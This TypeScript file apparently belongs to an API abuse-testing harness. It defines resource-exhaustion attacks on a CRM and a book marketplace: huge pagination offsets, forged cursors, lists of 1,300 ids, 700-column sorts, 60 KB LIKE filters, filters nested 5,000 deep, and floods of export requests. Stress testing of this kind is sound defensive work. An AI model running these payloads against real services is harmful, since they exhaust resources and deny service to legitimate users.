import type { Attack } from '../attack.ts'
import { JSON_TYPE } from '../payloads.ts'

const ids = (from: number, count: number) => Array.from({ length: count }, (_, n) => from + n).join(',')

/** Lists, filters and sums asked for in the costliest way. */
export const lists: Attack[] = [
  {
    name: 'lists from an offset of a billion',
    kind: 'costly',
    product: 'all',
    signedIn: true,
    run: ({ flood }) =>
      flood(
        300,
        10,
        n =>
          [
            { path: '/v1/deals?start=1000000000&limit=500', as: 'crm' as const },
            { path: '/v1/deals?start=19000&limit=500&sort=title%20DESC', as: 'crm' as const },
            { path: '/api/books/getAllBooks?skip=2000000000&limit=100', as: 'market' as const },
            { path: '/market?skip=999999999999999' },
            { path: '/api/books/getBooksNoToken/100/4900' },
          ][n % 5] ?? { path: '/' },
      ),
  },
  {
    name: 'full lists of 500, as fast as the limits let',
    kind: 'costly',
    product: 'crm',
    signedIn: true,
    run: ({ flood }) =>
      flood(400, 20, n => ({ path: n % 2 ? '/v1/deals?limit=500' : '/api/v2/deals?limit=500', as: 'crm' })),
  },
  {
    name: 'forged cursors',
    kind: 'malformed',
    product: 'crm',
    signedIn: true,
    run: ({ flood }) =>
      flood(300, 10, n => {
        const forged = [
          [1e308],
          ['a'],
          [{}],
          Array.from({ length: 500 }, () => 1),
          { length: 9 },
          [null, 'x'.repeat(3_000)],
        ]
        const cursor = Buffer.from(JSON.stringify(forged[n % 6])).toString('base64url')
        return {
          path: `/api/v2/${['deals', 'persons', 'activities'][n % 3]}?cursor=${cursor}&sort_by=update_time`,
          as: 'crm',
        }
      }),
  },
  {
    name: 'lists of 1,300 ids, sorts by 700 columns',
    kind: 'huge',
    product: 'crm',
    signedIn: true,
    run: ({ flood }) =>
      flood(200, 10, n => {
        const sort = Array.from({ length: 700 }, () => 'title%20ASC')
          .join(',')
          .slice(0, 7_000)
        const paths = [
          `/api/v2/deals?ids=${ids(1, 1_300)}`,
          `/v1/deals?sort=${sort}`,
          `/api/v2/deals/products?deal_ids=${ids(1, 1_300)}`,
        ]
        return { path: paths[n % 3] ?? '/', as: 'crm' }
      }),
  },
  {
    name: 'filters of 16 conditions of 60 KB each, then all of them listed and used',
    kind: 'huge',
    product: 'crm',
    signedIn: true,
    async run({ flood }) {
      const condition = { object: 'deal', field_code: 'title', operator: 'LIKE %$%', value: '%_'.repeat(30_000) }
      const conditions = {
        glue: 'and',
        conditions: [
          { glue: 'and', conditions: Array.from({ length: 8 }, () => condition) },
          { glue: 'or', conditions: Array.from({ length: 8 }, () => condition) },
        ],
      }
      const body = JSON.stringify({ name: 'Heavy', type: 'deals', conditions })
      await flood(40, 4, () => ({ path: '/v1/filters', as: 'crm', headers: JSON_TYPE, body }))
      await flood(40, 8, n => ({ path: n % 2 ? '/v1/filters' : `/api/v2/deals?filter_id=${1 + (n % 10)}`, as: 'crm' }))
    },
  },
  {
    name: 'filters of 5,000 conditions, nested 5,000 deep',
    kind: 'deep',
    product: 'crm',
    signedIn: true,
    run: ({ flood }) =>
      flood(40, 5, n => {
        const condition = '{"object":"deal","field_id":"1","operator":"=","value":"1"}'
        const wide = `{"glue":"and","conditions":[{"glue":"and","conditions":[${Array.from({ length: 5_000 }, () => condition).join()}]}]}`
        const deep = `${'{"glue":"and","conditions":['.repeat(5_000)}${']}'.repeat(5_000)}`
        return {
          path: '/v1/filters',
          as: 'crm',
          headers: JSON_TYPE,
          body: `{"name":"a","type":"deals","conditions":${n % 2 ? wide : deep}}`,
        }
      }),
  },
  {
    name: 'sums and timelines over all time',
    kind: 'costly',
    product: 'crm',
    signedIn: true,
    run: ({ flood, world }) => {
      const { pipelineId } = world.attacker
      const all = 'start_date=0001-01-01&end_date=9999-12-31'
      const paths = [
        '/v1/deals/summary',
        '/v1/deals/timeline?start_date=2026-01-01&interval=quarter&amount=100&field_key=add_time',
        '/v1/deals/timeline?start_date=0001-01-01&interval=day&amount=1000000&field_key=add_time',
        `/v1/pipelines/${pipelineId}/conversion_statistics?${all}`,
        `/v1/pipelines/${pipelineId}/movement_statistics?${all}`,
        `/v1/pipelines/${pipelineId}/deals?get_summary=1&everyone=1&limit=500`,
      ]
      return flood(60, 6, n => ({ path: paths[n % paths.length] ?? '/', as: 'crm' }))
    },
  },
  {
    name: 'everything kept about a person, and statistics',
    kind: 'costly',
    product: 'market',
    signedIn: true,
    run: ({ flood }) =>
      flood(200, 20, n => ({
        path:
          [
            '/api/user/exportData',
            '/api/books/getUserMatches',
            '/api/books/getUsersPosts',
            '/market/sell?isbn=9780000000001',
          ][n % 4] ?? '/',
        as: n % 4 === 3 ? 'page' : 'market',
      })),
  },
]
